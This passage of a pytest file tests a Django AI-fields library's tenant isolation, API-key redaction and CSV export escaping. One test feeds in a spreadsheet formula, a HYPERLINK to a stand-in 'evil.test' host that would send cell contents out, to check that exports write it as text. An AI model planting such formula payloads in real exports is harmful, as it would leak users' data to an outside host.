    (allowlisted) server: nothing of the batch goes there, and its jobs fail ``auth``."""
    from django_ai_fields.jobs.batches import poll

    ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key="sk-acme", base_url=two_tenants.openai_base_url
    )
    jobs = batch_of_two_tenants(two_tenants, settings, batches=2)
    url = tenant_url(two_tenants)
    settings.AI_FIELDS = {**settings.AI_FIELDS, "TENANT_BASE_URLS": [url]}
    ProviderCredential.objects.filter(tenant="acme").update(base_url=url, base_url_from_tenant=True)

    poll()

    assert requests_to_tenant_host(two_tenants) == []
    acme, globex = (AIJob.objects.get(pk=job.pk) for job in jobs)
    assert (acme.status, acme.error_code) == ("failed", "auth")
    assert "changed after provider batch" in acme.error
    assert globex.status == "succeeded"  # the operator's batch is read as usual


def test_a_batch_never_mixes_credentials(two_tenants, settings):
    credential = ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key="sk-acme", base_url=two_tenants.openai_base_url
    )
    batch_of_two_tenants(two_tenants, settings, batches=2)
    by_tenant = {job.tenant: job.batch_id for job in AIJob.objects.all()}
    assert by_tenant["acme"] != by_tenant["globex"]
    sources = {
        batch.batch_id: (batch.uses_settings, batch.credential_id)
        for batch in ProviderBatch.objects.all()
    }
    assert sources == {by_tenant["acme"]: (False, credential.pk), by_tenant["globex"]: (True, None)}


# -- issue 23, finding 2: a job follows its row's current tenant ------------------------------

JOBS = "/ai/jobs/"


def moved_product(two_tenants, worker) -> tuple[Product, AIJob]:
    """acme's product whose job failed, then moved to globex (its shop changed)."""
    two_tenants.fail_all_with = 400
    product = Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    two_tenants.fail_all_with = None
    job = AIJob.objects.get()
    assert (job.status, job.tenant) == ("failed", "acme")
    Product.objects.filter(pk=product.pk).update(shop="globex", title="Globex secret plan")
    return product, job


def job_client(username: str) -> Client:
    """A staff user of the tenant its name starts with ("acme-ann"), or "root": an operator."""
    perms = ("django_ai_fields.view_aijob", "django_ai_fields.change_aijob")
    client = Client()
    client.force_login(make_user(username, *perms, superuser=username == "root"))
    return client


def test_a_tenant_cannot_retry_a_job_whose_row_went_to_another_tenant(two_tenants, worker):
    _product, job = moved_product(two_tenants, worker)
    calls = two_tenants.calls

    response = job_client("acme-ann").post(f"{JOBS}{job.pk}/retry/")

    assert (response.status_code, response.json()["error"]["code"]) == (403, "row_moved")
    job.refresh_from_db()
    assert job.status == "failed"
    worker.drain()
    assert two_tenants.calls == calls


def test_an_operator_retry_runs_the_job_as_the_rows_current_tenant(two_tenants, worker):
    _product, job = moved_product(two_tenants, worker)
    url = two_tenants.openai_base_url
    ProviderCredential.objects.create(
        tenant="globex", provider="openai", api_key="sk-globex", base_url=url
    )
    response = job_client("root").post(f"{JOBS}{job.pk}/retry/")
    assert response.status_code == 200, response.content
    worker.drain()

    job.refresh_from_db()
    assert (job.status, job.tenant) == ("succeeded", "globex")
    assert two_tenants.provider_requests[-1].headers["authorization"] == "Bearer sk-globex"
    assert AIUsage.objects.filter(job=job).latest("pk").tenant == "globex"


def test_a_job_whose_row_moved_before_it_ran_is_superseded_without_a_call(two_tenants, worker):
    product = Product.objects.create(shop="acme", title="Anvil", price=10)
    Product.objects.filter(pk=product.pk).update(shop="globex")
    calls = two_tenants.calls
    worker.drain()

    job = AIJob.objects.get()
    assert (job.status, job.phase) == ("superseded", "PREP")
    assert "no longer belongs to tenant acme" in job.error
    assert two_tenants.calls == calls


def test_the_old_tenant_no_longer_sees_what_the_job_read_from_the_moved_row(
    two_tenants, worker
):
    two_tenants.reply_text = "Anvils for Acme"
    product = Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    job = AIJob.objects.get()
    acme = job_client("acme-ann")
    assert acme.get(f"{JOBS}{job.pk}/").json()["prompt"]
    Product.objects.filter(pk=product.pk).update(shop="globex")

    detail = acme.get(f"{JOBS}{job.pk}/").json()
    page = acme.get(f"/admin/django_ai_fields/aijob/{job.pk}/change/").content.decode()

    assert (detail["prompt"], detail["output"]) == (None, None)
    assert "Anvil" not in page and "Anvils for Acme" not in page
    assert job_client("root").get(f"{JOBS}{job.pk}/").json()["prompt"]


def test_the_job_admins_regenerate_refuses_rows_of_another_tenant(two_tenants, worker):
    _product, job = moved_product(two_tenants, worker)
    response = job_client("acme-ann").post(
        "/admin/django_ai_fields/aijob/",
        {"action": "regenerate_ai_fields", "_selected_action": [job.pk], "confirm": "yes"},
        follow=True,
    )
    assert "belongs to another tenant" in response.content.decode()
    assert AIJob.objects.count() == 1
# -- issue 23, findings 4, 8 and 10: keys in errors, estimates, exports ------------------------

# Keys that look like no key: only knowing them (settings, the tenant's row) redacts them.
OPERATOR_KEY = "operator-secret-value-4711"
TENANT_KEY = "acme-credential-value-2024"
# Keys of nobody here, in the shapes providers use.
STRANGE_KEYS = (
    "sk-ant-api03-" + "Qx7" * 14,
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
    "Zq81Kd02Lm77Pw4Tx9Vb3Nc6Hy5Rj0Fs1Ga2",
    "0123456789abcdef0123456789abcdef",
)
PATHS = ("chat", "anthropic", "responses")


def operator_keys_everywhere(settings, fake_provider, path):
    """The operator's keys set to values shaped like no key; ``path``'s provider the default."""
    providers = {
        name: {**entry, "API_KEY": f"{OPERATOR_KEY}-{name}"}
        for name, entry in settings.AI_FIELDS["PROVIDERS"].items()
    }
    values = {"PROVIDERS": providers, "MAX_ATTEMPTS": 1}
    if path == "anthropic":
        values.update(DEFAULT_PROVIDER="anthropic", DEFAULT_MODEL="claude-haiku-4-5")
    if path == "responses":
        providers["openai"]["API"] = "responses"
    settings.AI_FIELDS = {**settings.AI_FIELDS, **values}
    return providers


def key_quoting_error(key: str) -> str:
    return f"Incorrect API key provided: {key}. Others seen: {', '.join(STRANGE_KEYS)}."


def assert_no_key(text: str, *keys: str) -> None:
    for key in (*keys, *STRANGE_KEYS):
        assert key not in text
    assert OPERATOR_KEY not in text


@pytest.mark.parametrize("path", PATHS)
def test_a_401_quoting_the_operator_key_is_stored_and_logged_redacted(
    two_tenants, settings, worker, caplog, path
):
    operator_keys_everywhere(settings, two_tenants, path)
    provider = "anthropic" if path == "anthropic" else "openai"
    key = f"{OPERATOR_KEY}-{provider}"
    two_tenants.enqueue_fault(status=401, message=key_quoting_error(key))
    with caplog.at_level("INFO", logger="django_ai_fields"):
        Product.objects.create(shop="acme", title="Anvil", price=10)
        worker.drain()
    job = AIJob.objects.get()
    assert (job.status, job.error_code) == ("failed", "auth")
    assert "HTTP 401" in job.error and "Incorrect API key provided: [redacted]" in job.error
    assert_no_key(job.error, key)
    assert_no_key(caplog.text, key)
    viewer = Client()
    viewer.force_login(make_user("acme-ann", "django_ai_fields.view_aijob"))
    detail = viewer.get(f"/ai/jobs/{job.pk}/")
    assert detail.status_code == 200
    assert_no_key(detail.content.decode(), key)


def test_a_401_quoting_the_tenant_key_is_stored_redacted(two_tenants, settings, worker):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "MAX_ATTEMPTS": 1}
    ProviderCredential.objects.create(
        tenant="acme", provider="openai", api_key=TENANT_KEY, base_url=two_tenants.openai_base_url
    )
    two_tenants.enqueue_fault(status=401, message=key_quoting_error(TENANT_KEY))
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    job = AIJob.objects.get()
    assert job.error_code == "auth"
    assert_no_key(job.error, TENANT_KEY)


def test_a_key_quoted_in_the_middle_of_a_stream_is_redacted(fake_provider, settings, worker):
    from tests.testapp.models import Story

    operator_keys_everywhere(settings, fake_provider, "chat")
    key = f"{OPERATOR_KEY}-openai"
    fake_provider.reply_text = "Once upon a time there was a key."
    fake_provider.enqueue_fault(stream_error=401, message=key_quoting_error(key))
    Story.objects.create(title="Keys")
    worker.drain()
    job = AIJob.objects.get()
    assert job.error_code == "auth"
    assert_no_key(job.error, key)


def test_redaction_keeps_the_rest_of_an_error(fake_provider, settings, worker):
    settings.AI_FIELDS = {**settings.AI_FIELDS, "MAX_ATTEMPTS": 1}
    message = (
        "The model `anthropic.claude-3-5-sonnet-20241022-v2` does not exist (request "
        "123e4567-e89b-12d3-a456-426614174000, req_0123456789abcdef0123456789abcdef)."
    )
    fake_provider.enqueue_fault(status=404, message=message)
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    assert message in AIJob.objects.get().error


def test_a_logged_traceback_of_a_provider_error_shows_no_key(fake_provider, settings):
    import traceback

    from django_ai_fields.providers import CompletionRequest, ProviderError, build_provider

    providers = operator_keys_everywhere(settings, fake_provider, "chat")
    key = providers["openai"]["API_KEY"]
    fake_provider.enqueue_fault(status=401, message=key_quoting_error(key))
    request = CompletionRequest(system="", prompt="Hi", model="gpt-4o-mini", max_tokens=10)
    with pytest.raises(ProviderError) as raised:
        build_provider("openai", providers["openai"]).complete(request)
    # What logger.exception() prints: the error and the SDK exception chained as its cause.
    printed = "".join(traceback.format_exception(raised.value))
    assert "openai.AuthenticationError" in printed
    assert_no_key(printed, key)


def test_ai_status_and_diagnostics_redact_a_key_the_model_list_quotes(fake_provider, settings):
    from django_ai_fields.management.commands.ai_status import collect, render

    providers = operator_keys_everywhere(settings, fake_provider, "chat")
    keys = [entry["API_KEY"] for entry in providers.values()]
    fake_provider.models_error = (401, key_quoting_error(" ".join(keys)))
    report = collect(check_providers=True)
    text = "\n".join(render(report))
    assert "HTTP 401" in text
    assert_no_key(text, *keys)
    client = Client()
    client.force_login(make_user("root", superuser=True))
    diagnostics = client.get("/ai/diagnostics/")
    assert diagnostics.status_code == 200
    assert "HTTP 401" in diagnostics.content.decode()
    assert_no_key(diagnostics.content.decode(), *keys)


def usage_csv(client: Client, *columns: str) -> list[dict[str, str]]:
    import csv
    import io

    data = {"format": "0", "resource": "0", **{f"aiusageresource_{c}": "on" for c in columns}}
    response = client.post("/admin/django_ai_fields/aiusage/export/", data)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_usage_export_writes_formula_cells_as_text(two_tenants, worker):
    claimed = '=HYPERLINK("https://evil.test/?"&A1,"Open")'
    two_tenants.reply_model = claimed
    Product.objects.create(shop="@acme", title="Anvil", price=10)
    Product.objects.create(shop="+globex", title="Globe", price=20)
    worker.drain()
    root = Client()
    root.force_login(make_user("root", superuser=True))
    rows = usage_csv(root, "tenant", "model", "reported_model", "input_tokens")
    assert sorted(row["tenant"] for row in rows) == ["'+globex", "'@acme"]
    assert {row["reported_model"] for row in rows} == {"'" + claimed}
    assert {row["model"] for row in rows} == {"gpt-4o-mini"}
    assert {row["input_tokens"] for row in rows} == {"11"}


def test_usage_keeps_the_model_asked_for_beside_the_one_the_provider_claims(
    two_tenants, worker
):
    two_tenants.reply_model = "gpt-5.5-pro-2099"  # a dearer model than the one asked for
    Product.objects.create(shop="acme", title="Anvil", price=10)
    worker.drain()
    usage = AIUsage.objects.get()
    assert (usage.model, usage.reported_model) == ("gpt-4o-mini", "gpt-5.5-pro-2099")
    assert usage.cost_usd == Decimal("0.000006")  # priced as asked: 11 x 0.15 + 7 x 0.60
    root = Client()
    root.force_login(make_user("root", superuser=True))
    html = root.get("/admin/django_ai_fields/aiusage/").content.decode()
    assert "model (as reported)" in html.lower()
    assert '<td class="field-model">gpt-4o-mini</td>' in html
    assert '<td class="field-reported_model">gpt-5.5-pro-2099</td>' in html
    job_page = root.get(f"/admin/django_ai_fields/aijob/{usage.job_id}/change/").content.decode()
    assert "gpt-5.5-pro-2099" in job_page


def test_a_quota_export_marks_formula_cells_and_imports_back_unchanged(settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    Quota.objects.create(tenant="=SUM(A1:A9)", kind="requests", period="day", limit=5)
    root = Client()
    root.force_login(make_user("root", superuser=True))
    fields = ["tenant", "kind", "period", "limit", "is_unlimited"]
    data = {"format": "0", "resource": "0", **{f"quotaresource_{f}": "on" for f in fields}}
    exported = root.post("/admin/django_ai_fields/quota/export/", data).content
    assert exported.decode().splitlines()[1].startswith("'=SUM(A1:A9),requests,day")
    Quota.objects.update(limit=1)
    upload = {"format": "0", "resource": "0"}
    upload["import_file"] = SimpleUploadedFile("quotas.csv", exported, "text/csv")
    html = root.post("/admin/django_ai_fields/quota/import/", upload).content.decode()
    import re

    confirm = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html))
    root.post("/admin/django_ai_fields/quota/process_import/", confirm, follow=True)
    assert list(Quota.objects.values_list("tenant", "limit")) == [("=SUM(A1:A9)", 5)]


def test_the_cost_estimate_never_shows_another_tenants_spending(fake_provider, settings):
    from io import StringIO

    from django.contrib.contenttypes.models import ContentType

    from django_ai_fields.api import estimate
    from tests.testapp.models import Lead

    settings.AI_FIELDS = {
        **settings.AI_FIELDS,
        "TENANT_RESOLVER": "tests.testapp.tenancy.lead_tenant",
        "TENANT_FOR_USER": TENANT_FOR_USER,
    }
    leads = [Lead.objects.create(name=f"L{i}", company="acme", notes="n") for i in range(2)]
    AIJob.objects.update(status="succeeded")
    past = AIJob.objects.create(
        content_type=ContentType.objects.get_for_model(Lead), object_id="0", field_name="heat"
    )
    # globex spends $7.77 a call on this field; acme has no history.
    AIUsage.objects.create(
        tenant="globex", job=past, provider="openai", model="m", cost_usd=Decimal("7.77")
    )
    acme_rows = Lead.objects.filter(company="acme")
    assert estimate(acme_rows, "heat").expected_usd is None
    client = Client()
    client.force_login(make_user("acme-ann", "testapp.change_lead", "testapp.view_lead"))
    action = {"action": "regenerate_ai_field_heat", "_selected_action": [x.pk for x in leads]}
    page = client.post("/admin/testapp/lead/", action).content.decode()
    assert "This requests 2 AI jobs for 2 row(s)" in page
    assert "Expected cost: unknown" in page and "15.54" not in page and "7.77" not in page

    AIUsage.objects.create(
        tenant="acme", job=past, provider="openai", model="m", cost_usd=Decimal("0.000040")
    )
    assert estimate(acme_rows, "heat").expected_usd == Decimal("0.000080")
    Lead.objects.create(name="G", company="globex", notes="n")
    out = StringIO()
    call_command("ai_regenerate", "testapp.Lead", "--field", "heat", "--dry-run", stdout=out)
    # Each tenant's jobs at its own average: 2 x $0.00004 (acme) + 1 x $7.77 (globex).
    assert "Expected cost: $7.770080" in out.getvalue()


def test_a_crash_that_quotes_a_key_stores_no_key(fake_provider, monkeypatch):
    """An internal error is stored as the exception's text: keys are redacted from it
    as from a provider's error (issue 23, finding 4)."""
    from django_ai_fields.api import run_ai_task
    from django_ai_fields.jobs import engine

    def crash(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise RuntimeError("could not build the client for sk-test-openai")

    monkeypatch.setattr(engine, "request_for", crash)
    job = run_ai_task("extract_lead", {"description": "Ada at Acme"}, sync=True)

    assert (job.status, job.error_code) == ("failed", "internal")
    assert "sk-test-openai" not in job.error and "[redacted]" in job.error
